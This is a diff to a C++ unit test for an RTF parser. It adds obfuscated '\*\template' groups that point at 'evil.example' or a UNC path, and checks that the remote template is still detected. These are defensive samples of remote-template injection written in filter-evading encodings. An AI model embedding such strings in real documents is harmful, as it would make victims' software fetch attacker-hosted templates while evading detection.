@@ -16,8 +16,12 @@ TEST(Rtf, TellsItsTemplate) {
   for (const char* group :
        {"{\\*\\template http://evil.example/a}", "{\\*\\template\r\nhttp://evil.example/a}",
         "{\\*\\template \\'68\\'74tp://evil.example/a}", "{\\*\\template \\u104?\\u116 ?tp://evil.exa\nmple/a}",
-        "{\\*\\template \\u104\\'68ttp://evil.example/a}", "{\\*\\template \\b http://evil{.example/a}}"})
+        "{\\*\\template \\u104\\'68ttp://evil.example/a}", "{\\*\\template \\b http://evil{.example/a}}",
+        "{\\*\\template {h}ttp://evil.example/a}", "{\\*\\template ht{\\*\\zz zz}tp://evil.example/a}",
+        "{\\*\\template \\uc0\\u104 ttp://evil.example/a}", "{\\*\\template \\uc2\\u104 ??ttp://evil.example/a}",
+        "{\\*\\template \\u-65432?ttp://evil.example/a}"})
     EXPECT_EQ(fetched_by(group), Strings{"http://evil.example/a"}) << group;
+  EXPECT_EQ(fetched_by("{\\uc0{\\*\\template \\u104 ttp://evil.example/a}}"), Strings{"http://evil.example/a"});
   EXPECT_EQ(fetched_by("{\\*\\template \\\\\\\\server\\\\a.dotm}"), Strings{"\\\\server\\a.dotm"});
 }
 
